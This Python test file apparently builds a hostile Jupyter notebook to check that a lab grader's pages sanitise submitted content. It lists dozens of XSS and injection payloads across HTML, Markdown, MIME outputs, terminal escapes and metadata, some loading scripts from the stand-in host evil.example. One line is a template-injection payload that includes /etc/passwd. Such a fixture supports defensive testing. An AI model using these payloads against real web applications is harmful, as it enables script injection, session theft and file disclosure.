"""What a notebook, a name or a message might hold to act on whoever opens a page of the grader.

Every vector sets `window.pwned`, asks the network for `evil.example`, or draws over the page.
"""

import base64
from typing import Any

import nbformat
from nbformat import NotebookNode

from pytorch_lab.grading.notebooks import facts
from tests.assignments import make_submission

RUN = "window.pwned=1;alert(1)"
FAR = "https://evil.example"
_SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script>'
    f'<image href="{FAR}/svg.png"/></svg>'
)
_SVG64 = base64.b64encode(_SVG.encode()).decode()

# By name; each as HTML, which Markdown may hold as well.
HTML = {
    "script": f"<script>{RUN}</script>",
    "script from afar": f"<script src={FAR}/x.js></script>",
    "module": f'<script type=module>import "{FAR}/m.js"</script>',
    "script in svg": f"<svg><script>{RUN}</script></svg>",
    "svg onload": f"<svg onload={RUN}>",
    "svg animate": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    "svg use": f'<svg><use href="data:image/svg+xml;base64,{_SVG64}#x"/></svg>',
    "svg foreignObject": f'<svg><foreignObject><img src=x onerror="{RUN}"></foreignObject></svg>',
    "img onerror": f"<img src=x onerror={RUN}>",
    "img from afar": f'<img src="{FAR}/i.png" srcset="{FAR}/i2.png 2x">',
    "img lazy": f'<img loading=lazy src="//evil.example/lazy.png" onload={RUN}>',
    "img svg data": f'<img src="data:image/svg+xml;base64,{_SVG64}">',
    "picture": f'<picture><source srcset="{FAR}/p.webp"><img src="{FAR}/p.png"></picture>',
    "javascript link": f'<a href="javascript:{RUN}" class=bait>click</a>',
    "javascript link, hidden": f'<a href="&#106;ava&Tab;script&colon;{RUN}" class=bait>click</a>',
    "data link": f'<a href="data:text/html,<script>{RUN}</script>" class=bait>click</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">click</a>',
    "link that opens": f'<a href="{FAR}" target=_blank ping="{FAR}/ping">far</a>',
    "body onload": f"<body onload={RUN}>",
    "details ontoggle": f"<details open ontoggle={RUN}>x</details>",
    "input autofocus": f"<input autofocus onfocus={RUN}>",
    "form": f'<form action="{FAR}/form"><input name=q><button autofocus>send</button></form>',
    "button formaction": f"<button formaction=javascript:{RUN}>x</button>",
    "iframe": f'<iframe src="javascript:parent.{RUN}"></iframe><iframe src="{FAR}"></iframe>',
    "iframe srcdoc": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": f'<object data="{FAR}/o.swf"></object><embed src="{FAR}/e.swf">',
    "meta refresh": f'<meta http-equiv=refresh content="0;url={FAR}/refresh">',
    "base": f'<base href="{FAR}/">',
    "link stylesheet": f'<link rel=stylesheet href="{FAR}/s.css"><link rel=icon href="{FAR}/i">',
    "dns prefetch": f'<link rel=dns-prefetch href="{FAR}"><link rel=prerender href="{FAR}/pr">',
    "style": f"<style>@import url({FAR}/i.css); body {{ display: none }}</style>",
    "style attribute": f'<div style="background:url({FAR}/b);position:fixed;inset:0">OVER</div>',
    "overlay by class": '<div class="lab page verdict good" id="exercise-03-1">20 of 20</div>',
    "video": f'<video src="{FAR}/v.mp4" poster="{FAR}/p.png" autoplay onerror={RUN}></video>',
    "audio": f'<audio src="{FAR}/a.mp3" autoplay onerror={RUN}></audio>',
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "broken out of a title": f"</title></style></head></script><script>{RUN}</script>",
    "mutation, noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mutation, math": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    "mutation, svg style": f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    "mutation, template": f"<template><script>{RUN}</script></template>",
    "mutation, alt": f'<img alt="<img onerror={RUN} src=x ">',
    "unclosed comment": f"<!-- --!><script>{RUN}</script>",
    "unclosed attribute": f'<img src="x` `<script>{RUN}</script>"` `>',
    "clobbering": "<form id=cookie><img name=getElementById></form>",
    "custom element": f"<x onfocus={RUN} style=inset:0 tabindex=1 autofocus>x</x>",
    "xlink": f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    "popover": f"<div popover id=p onbeforetoggle={RUN}>x</div><button popovertarget=p>y</button>",
}  # fmt: skip

MARKDOWN = {
    "link": f"[click](javascript:{RUN})",
    "link, hidden": f"[click](java\tscript:{RUN}) [click](&#x6a;avascript:{RUN})",
    "reference": f"[click][1]\n\n[1]: javascript:{RUN}",
    "autolink": f"<javascript:{RUN}>",
    "image": f"![x]({FAR}/md.png) ![y](x \"\\\" onerror='{RUN}'\")",
    "fence": f'```"><script>{RUN}</script>\nx\n```',
    "mermaid": f"```mermaid\n<img src=x onerror={RUN}>\n```",
    "tex": f"$$\\href{{javascript:{RUN}}}{{x}}$$ $<img src=x onerror={RUN}>$",
    "tex brackets": f"\\\\(<script>{RUN}</script>\\\\)",
    "heading": f"# <img src=x onerror={RUN}>",
    "table": f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    "attachment": "![x](attachment:evil) ![y](attachment:none)",
}  # fmt: skip

TEXTS = {
    "ansi": f"\x1b]8;;javascript:{RUN}\x07click\x1b]8;;\x07",
    "ansi colour": f"\x1b[31m<img src=x onerror={RUN}>\x1b[0m",
    "window title": "\x1b]0;owned\x07\x1b[2J\x1b[H\x00\x07\x08",
    "bidi": "points\u202e 02 \u2066seven\u2069",
    "markup": f"</pre></main><script>{RUN}</script>",
    "jinja": "{{ cycler.__init__.__globals__ }}{% include '/etc/passwd' %}",
}

MIMES: dict[str, Any] = {
    "application/javascript": RUN,
    "text/javascript": RUN,
    "application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{RUN}</script>"},
    "text/vnd.mermaid": f"<img src=x onerror={RUN}>",
    "image/svg+xml": _SVG,
    "image/png": f'"><script>{RUN}</script>',
    "application/xhtml+xml": f"<script>{RUN}</script>",
    "text/latex": f"<script>{RUN}</script>",
    "text/markdown": f"<img src=x onerror={RUN}>",
    "application/pdf": "JVBERi0=",
}

NAME = f"<script>{RUN}</script>\u202e\"'><img src=x onerror={RUN}>../../{{{{7*7}}}}"


def hostile_notebook() -> NotebookNode:
    """A submission that holds every vector, in every place where one can stand."""
    notebook = make_submission()
    for cell in notebook.cells:
        if (known := facts(cell)) and known.is_answer:
            cell.source += f"\n# {TEXTS['markup']} {TEXTS['bidi']}"
            cell.outputs = [nbformat.v4.new_output("stream", text="\n".join(TEXTS.values()))]
    for source in [*HTML.values(), *MARKDOWN.values(), *TEXTS.values()]:
        cell = nbformat.v4.new_markdown_cell(source)
        cell["attachments"] = {"evil": {"image/svg+xml": _SVG64, "text/html": HTML["script"]}}
        notebook.cells += [cell, nbformat.v4.new_raw_cell(source)]
    outputs = [_display({"text/html": source}) for source in HTML.values()]
    outputs += [_display({mime: data}) for mime, data in MIMES.items()]
    outputs += [_display({mime: data, "text/html": HTML["script"]}) for mime, data in MIMES.items()]
    for at in range(0, len(outputs), 30):
        cell = nbformat.v4.new_code_cell(HTML["script"], outputs=outputs[at : at + 30])
        cell.metadata = {"tags": [HTML["script"]], "nbgrader": HTML["script"]}
        notebook.cells.append(cell)
    notebook.metadata = {
        "title": HTML["script"],
        "language_info": {"name": HTML["script"], "pygments_lexer": HTML["script"]},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": HTML["script"]}},
    }
    return notebook


def _display(data: dict[str, Any]) -> Any:
    shown = nbformat.v4.new_output("display_data", {"text/plain": "x"})
    shown.data = data
    shown.metadata = {"image/png": {"width": f"1 onload={RUN}"}, "filenames": {"image/png": FAR}}
    return shown
